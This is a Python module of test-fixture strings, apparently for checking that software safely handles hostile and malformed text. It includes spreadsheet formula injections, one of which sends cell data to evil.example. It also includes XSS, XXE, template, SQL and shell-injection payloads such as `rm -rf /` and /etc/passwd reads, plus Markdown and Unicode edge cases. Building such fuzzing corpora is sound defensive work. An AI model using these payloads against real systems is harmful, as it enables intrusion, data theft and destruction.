"""Texts that do harm elsewhere, in families: what people paste by accident, and what they try on purpose. All are of our own making."""

from __future__ import annotations

from typing import Final

RUN: Final = "window.pwned=1"
"""What a script would do that ran; a page in which it did is found out by it."""

FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1-2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "\t=1+1",
    "#N/A",
    "'=1",
    "_x003D_1+1",
)
"""Beginnings of a cell that spreadsheet programs act on."""

MARKUP: Final = (
    f"<script>{RUN}</script><img src=x onerror={RUN}><svg/onload={RUN}>",
    f"\"><b onmouseover='{RUN}'>'/></style></script></title></textarea><iframe srcdoc='<script>{RUN}</script>'>",
    f"<a href=javascript:{RUN}>go</a> [go](javascript:{RUN}) [go](data:text/html,<script>{RUN}</script>) [go](//evil.example)",
    f"![look](https://evil.example/p.png) ![look](javascript:{RUN}) ![look](../../../etc/passwd) <https://evil.example/?a=1&b=2>",
    "<!-- hidden --> <![CDATA[ x ]]> <?xml version='1.0'?> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]> &y; &amp; &lt; &#x41; &nbsp;",
    "</w:t></w:r></w:p><w:p/> <a:t/> <text:p/> \\u0041 %3Cscript%3E",
    "{{ 7*7 }} {% for x in y %} {# gone #} {{ cycler.__init__.__globals__ }} ${7*7} #{7*7} <%= 7*7 %> {{r 7 }} {%p if x %}",
    '#import "@preview/x:1.0.0" #read("/etc/passwd") #let x = 1 $ x^2 $ #set text(size: 99pt) @ref <label> // no comment /* none */',
    "\\input{/etc/passwd} \\write18{id} $$ \\frac{1}{2} $$ `id` $(id) ; rm -rf / | cat && false > /dev/null %PATH% %s %n {0} %(name)s",
    "Robert'); DROP TABLE Students;-- ' OR '1'='1 ../../../../etc/passwd ..\\..\\windows\\win.ini C:\\nul file:///etc/passwd",
    "[[toc]] [[page]] [[lang es]] [[/lang]] [[figure map]] [[figure nothing]] Table: words [^1] [x]: y :smile: @everyone #1234",
    "BEGIN:VEVENT\\nEND:VCALENDAR;X=1,2:3 \\, \\; \\n &L&P&D 1e5 3-4 2026-10-15 TRUE null ~ - ? !!python/object:os.system",
)
"""What other programs read as instructions, each on one line."""

MARKDOWN: Final = (
    "# One\n\n#### Four\n\nSetext\n======\n\nLow\n---\n\n####### Seven\n\n#\n\n# #",
    "> quoted\n> > deeper\n>>> deepest\n\n- - - one\n\n1. a\n1. b\n7) c\n\n1986. What a year\n\n- [ ] open\n- [x] done",
    "| a | b |\n| - | - |\n| 1 | 2 | more than there are columns |\n| `x | y` | z |\n| |",
    "| one |\n| --- |\n\n|-|-|\n\nTable: words\n\n| a\\|b | c |\n| :-: | --: |\n| d |",
    "[a page]: https://evil.example 'title'\n\n[a page] and [a page][] and [text][a page] and [no page][nowhere]",
    "[nobody asks for it]: https://example.org\n\n[Principal]: yes",
    '[link](https://example.org "its title") ![picture](none.png "its title") ![](nothing.png) [](https://example.org)',
    "**bold *both** neither* ***all*** __x__ a_b_c ~~gone~~ ~one~ `code` ``a`b`` \\* \\_ &copy; line\\\nend  \nend",
    "    indented code\n\n<div>\n\n*in it*\n\n</div>\n\n***\n___\n- - -\n\n[[toc]]\n\n[[lang es]]\n\n[[/lang]]\n\n[[figure map]]\n\n[[page]]",
    "* a\n+ b\n- c\n\n  d\n\n      e\n\n10. f\n    g\n\n  | h |\n  | - |\n  | i |",
    "[" * 60 + "x" + "]" * 60 + " " + "*" * 60 + "x" + "*" * 60 + " " + "`" * 31 + " " + "(" * 60,
    "``` not only a language, but words\nnever closed\n\n# in code\n{{ 7*7 }} </w:t> ~~~",
)
"""Markdown of every kind, well-formed and not. The last block is never closed."""

NESTED: Final = (
    "".join("  " * depth + f"- level {depth}\n" for depth in range(50)),
    "".join(">" * depth + f" quoted {depth}\n" for depth in range(1, 41)),
    "".join("   " * depth + f"1. step {depth}\n" for depth in range(20)),
)
"""Lists and quotations deeper than a page has room for."""

LETTERS: Final = (
    "العربية (2026) مدرسة 42% ، עברית (2026) בית־ספר",
    "中文学校 日本語の学校 한국어 학교 ภาษาไทย ភាសាខ្មែរ ພາສາລາວ မြန်မာ हिन्दी አማርኛ ትምህርት Tiếng Việt Ελληνικά Русский",
    "👩🏽‍🏫 👨‍👩‍👧‍👦 🇺🇸🇲🇽 👍🏿 ☑️ 1️⃣ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️‍🔥 🫠 🪿",
    "Z̸̡̢͎̟̗̥͇̓̈́̏̀͆̔͛ȁ̵̛̬͙̤̯̊̋͐̏͑ľ̶̢̛̗̭͉̈́͌̀ǵ̷̞̘͇̩̙̞̌̉͒̇o̷̧̡̩̾ " + "e" + "\u0301" * 300,
    "zero\u200bwidth\u200cjoin\u200der \u2060word\ufeff soft\u00adhy\u00adphen no\u00a0break \u3000wide\u2003em \u180e",
    "\u202eturned\u202c \u2066isolated\u2069 \u200eleft\u200f \u061c \u2028line\u2029paragraph",
    "\x00 \x01 \x07 \x08 \x0b \x0c \x1b[31mred\x1b[0m \x1f \x7f \x85 \x9b",
    "\ufffe \uffff \ufdd0 \ufffd \ufff9a\ufffab\ufffb \ue000 \U000f0000 \U0001fffe \U0010ffff \ud7ff \u0378",
    "½ ﷽ ㍿ ﬁ ǆ İı ẞ ß ŉ K Å Ω fi ①②③ ㊗ ꀀ 𒀀 𓀀 𝕳𝖊𝖑𝖑𝖔 ⠓⠊ ⟦x⟧ ☐ ☑ • ‣ – — “ ” ‘ ’ « » … ⁄ ″ ★",
    "Ｆｕｌｌ ｗｉｄｔｈ ＝ＣＭＤ ￥ раураl ⅠⅤ ٠١٢ ०१२ −1 ≤ ≠ ∑ √ ∞ → ⇒ ₂ ²",
)
"""Letters, signs and what cannot be seen."""

LONG_WORD: Final = "W" * 10_000
MANY_LINES: Final = "\n".join(f"line {number}" for number in range(2_000))

UNSEEN: Final = ("\u200b", "\u00a0", "\u2060\u2060", "\u00ad", "\u3164", " \u2003 ", "\u200e\u200f", "\u034f")
"""Texts in which there is nothing to see, though not all of them count as blank."""
